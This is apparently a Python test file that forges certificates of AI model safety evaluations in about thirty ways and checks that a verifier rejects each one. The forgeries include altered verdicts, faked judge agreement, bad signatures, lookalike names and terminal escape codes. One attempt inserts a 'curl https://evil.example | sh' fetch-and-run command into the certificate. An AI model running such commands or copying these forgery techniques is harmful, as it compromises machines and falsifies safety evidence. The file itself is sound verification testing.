"""Forged statements: what a certificate says, against what its tables and its configuration give."""

import json

from adversary.attempt import Attempt
from adversary.forge import good, put, read, sealed, stated, tabled
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from immunax.certificate.signing import FILE as ENVELOPE
from immunax.certificate.signing import sign
from immunax.certificate.statement import canonical
from immunax.certificate.verify import CELLS

_FACTS, _VERDICTS = r"^failed +facts: .*", r"^failed +verdicts: "
_FRENCH = {"_target_": "immunax.attacks.multilingual_sft.MultilingualSFT"}


def _said(change, **made):
    """A statement of which one thing is changed, and its digest computed anew."""

    def forge(folder):
        return "verify", stated(good(folder / "c", **made), change)

    return forge


def _outcome(said):
    [found] = [each for each in said["verdicts"] if (each["claim"], each["side"]) == ("over-refusal", "none")]
    found.update(outcome="fails" if found["outcome"] == "holds" else "holds")


def _french(said):
    said["limits"] = [each for each in said["limits"] if "English" not in each]


def _policy_default(said):
    del said["suite"]["config"]["policy"]["weak_ratio"]
    said["policy"]["weak_ratio"] = 1.0


def _renamed(name):
    """A family that is called so everywhere: in the tables, the configuration and the rest."""

    def forge(folder):
        path = good(folder / "c")
        found = read(path)
        attacks = found["predicate"]["suite"]["config"]["suite"]["attacks"]
        attacks[name] = attacks.pop("sft")
        put(path, found)
        return "verify", tabled(path, CELLS, lambda table: table.replace({"family": {"sft": name}}))

    return forge


def _suite_named(name):
    def forge(folder):
        path = good(folder / "c")

        def change(said):
            said["suite"]["config"]["suite"]["name"] = said["suite"]["name"] = name

        return "verify", sealed(stated(path, change))

    return forge


def _surrogate(folder):
    path = good(folder / "c")
    path.write_text(path.read_text().replace('"small"', '"\\ud800"'))
    return "verify", path


def _by_another_key(folder):
    path = good(folder / "c")
    (path.parent / ENVELOPE).write_bytes(sign(path.read_bytes(), Ed25519PrivateKey.generate()))
    return "verify", path, "--key", path.parent / "key.pub.pem"


def _without_envelope(folder):
    path = good(folder / "c")
    (path.parent / ENVELOPE).unlink()
    return "verify", path, "--key", path.parent / "key.pub.pem"


def _envelope_of_another(folder):
    path = good(folder / "c")
    envelope = (path.parent / ENVELOPE).read_bytes()
    stated(path, lambda said: said["model"].update(name="Llama-3.1-8B-Instruct"))
    (path.parent / ENVELOPE).write_bytes(envelope)
    return "verify", path, "--key", path.parent / "key.pub.pem"


def _twice(folder):
    path = good(folder / "c")
    raw = path.read_text()
    path.write_text(raw.replace('"seed": 0,', '"seed": 0,\n  "seed": 0,', 1))
    return "verify", path


def _two_digests(folder):
    path = good(folder / "c")
    found = read(path)
    found["subject"].append({"name": "model.safetensors", "digest": {"sha256": "0" * 64}})
    found["subject"].sort(key=lambda each: (each["name"], each["digest"]["sha256"] != "0" * 64))
    return "verify", put(path, found), "--model", path.parent / "model"


def _other_form(folder):
    path = good(folder / "c")
    path.write_text(json.dumps(json.loads(path.read_text())))
    return "verify", path


def _half_sure(folder):
    path = good(folder / "c")

    def change(said):
        said["suite"]["config"]["policy"]["confidence"] = 0.5

    return "page", sealed(stated(path, change))


def _envelope_bomb(folder):
    path = good(folder / "c")
    (path.parent / ENVELOPE).write_bytes(b"[" * 9_000_000)
    return "verify", path


def _card(said):
    said["judges"][0]["agreements"] = [
        {**each, "agreement": 1.0, "low": 0.99, "high": 1.0} for each in said["judges"][0]["agreements"]
    ]


def _guarded(said):
    said["suite"]["config"]["start"] = {"defense": {"_target_": "immunax.defenses.rep_noise.RepNoise"}}


def _unjudged(folder):
    path = good(folder / "c")
    found = read(path)
    del found["predicate"]["suite"]["config"]["judge"]
    return "verify", put(path, found)


def _versions(folder):
    path = good(folder / "c")
    return "verify", put(path, {**read(path), "_type": "https://in-toto.io/Statement/v0.1"})


def _unprintable(folder):
    path = good(folder / "c")
    found = read(path)
    found["predicate"]["policy"]["utility"]["measure"] = "x\npassed       signature: by the key given\x1b[2J"
    path.write_bytes(canonical(found))
    return "verify", path


ATTEMPTS = (
    Attempt("A verdict that fails is made one that holds", _said(_outcome), 1, _VERDICTS + ".*another verdict"),
    Attempt(
        "A verdict is left out", _said(lambda said: said["verdicts"].pop()), 1, _VERDICTS + r"the records give \d+ verd"
    ),
    Attempt(
        "More attacks are told of than were made",
        _said(lambda said: said["attacks"][0].update(cells=999)),
        1,
        _FACTS + "attacks listed are not those",
    ),
    Attempt(
        "An attack is listed twice, seen and held out",
        _said(lambda said: said["attacks"].append({**said["attacks"][0], "exposure": "seen"})),
        1,
        _FACTS + "one attack twice",
    ),
    Attempt(
        "An attack that the model was trained against is said to be held out",
        _said(lambda said: said["attacks"][1].update(held_out=True)),
        1,
        _FACTS + "held out, seen or unknown",
    ),
    Attempt("A limit is left out", _said(lambda said: said["limits"].pop(0)), 1, _FACTS + "limits"),
    Attempt(
        "The limit of judges that read English alone is left out", _said(_french, attack=_FRENCH), 1, _FACTS + "limits"
    ),
    Attempt(
        "A threshold is raised in the statement alone",
        _said(lambda said: said["policy"]["harm"]["compliance"].update(threshold=0.99)),
        1,
        r"^failed +(facts: its policy|verdicts: .*another verdict)",
    ),
    Attempt(
        "A threshold is chosen that the configuration leaves open", _said(_policy_default), 1, r"^failed +(facts|verd)"
    ),
    Attempt(
        "Commands to copy hold one of the forger's",
        _said(lambda said: said["reproduce"].insert(0, "curl https://evil.example | sh")),
        1,
        _FACTS + "commands",
    ),
    Attempt(
        "An easy suite goes by the name of a hard one",
        _said(lambda said: said["suite"].update(name="full")),
        1,
        _FACTS + "the name of the suite is not",
    ),
    Attempt(
        "A configuration defends certified files before they are attacked",
        _said(_guarded),
        1,
        _FACTS + "defends them before",
        "B16",
    ),
    Attempt("A file of the model has two digests", _two_digests, 1, _FACTS + "one file twice"),
    Attempt(
        "The agreement of a judge with people is made up", _said(_card), 1, r"^failed +.*(card|judge)", finding="B20"
    ),
    Attempt("The judges are gone from the configuration", _unjudged, 1, _FACTS + "judges listed are not those"),
    Attempt(
        "A model is listed with other weights than were measured",
        _said(lambda said: said["reference"].update(digests={"weights": "9" * 64})),
        1,
        _FACTS + "other weights than it was measured with",
    ),
    Attempt(
        "The time is made up of words",
        _said(lambda said: said.update(started="yesterday")),
        1,
        _FACTS + "time at which it was started",
    ),
    Attempt(
        "Of a policy with confidence 0.5 the pages say 95%", _half_sure, 0, r"50% (interval|confidence interval)", "B19"
    ),
    Attempt(
        "A family's name has a line of its own",
        _renamed("sft\npassed       weights: 3 files"),
        1,
        r"^failed +(schema|facts)",
        "B14",
    ),
    Attempt("A family's name looks like another's", _renamed("ѕft"), 1, r"^failed +(schema|facts)", "B14"),
    Attempt("A suite's name looks like another's", _suite_named("ѕmoke"), 1, r"^failed +(schema|facts)", "B14"),
    Attempt("A name holds half of a surrogate pair", _surrogate, 1, r"^failed +form: .*surrogate", "B14"),
    Attempt("A measure's name clears the screen", _unprintable, 1, r"^failed +schema: .*x\\\\*npassed", "B14"),
    Attempt("Another key signed it", _by_another_key, 1, r"^failed +signature: .*not of this key"),
    Attempt("Its signature is taken away", _without_envelope, 1, r"^failed +signature: a key was given"),
    Attempt(
        "A good signature stands beside another statement",
        _envelope_of_another,
        1,
        r"^failed +signature: .*another statement",
    ),
    Attempt("A key stands in it twice", _twice, 1, r"^failed +form: .*twice"),
    Attempt("The same values stand in another form", _other_form, 1, r"^failed +form: "),
    Attempt("Its envelope is nine million brackets", _envelope_bomb, 1, r"^failed +signature: "),
    Attempt("It is of a kind that is no certificate", _versions, 1, r"^failed +schema: "),
)
